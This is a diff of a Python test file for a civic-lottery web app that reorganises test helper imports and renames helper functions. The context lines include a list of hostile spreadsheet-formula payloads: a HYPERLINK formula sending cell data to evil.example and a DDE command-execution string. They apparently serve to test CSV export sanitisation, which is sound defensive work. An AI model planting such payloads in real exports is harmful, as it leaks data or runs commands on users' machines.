@@ -13,10 +13,17 @@ from starlette.routing import Route
 
 from summit.core.csvfile import FORMULA_START, csv_text, safe_cell
 from summit.core.models import SummitTable
-from tests.test_http import csrf_of, login
-from tests.test_lottery_downloads import PANEL_SEED, _select
-from tests.test_lottery_http import SEED, _register_everyone, _summit_id, register_csv, upload
-from tests.test_security_inputs import open_recording
+from tests.support.http import csrf_of, login
+from tests.support.ideas import open_recording
+from tests.support.lottery_http import (
+    PANEL_SEED,
+    SEED,
+    current_summit_id,
+    register_csv,
+    register_everyone,
+    run_selection,
+    upload,
+)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
 
@@ -78,8 +85,8 @@ def _hostile_lottery(client: Any, info: Any) -> None:
     token = csrf_of(client.get("/organiser/lottery").text)
     client.post("/organiser/lottery/commit", data={"csrf_token": token, "sample_size": "20"})
     client.post("/organiser/lottery/draw", data={"csrf_token": token, "seed": SEED})
-    _register_everyone(client, _summit_id(client))
-    _select(client, token)
+    register_everyone(client, current_summit_id(client))
+    run_selection(client, token)
     drawn = client.post(
         "/organiser/selection/draw",
         data={"csrf_token": token, "role": "resident", "seed": PANEL_SEED},
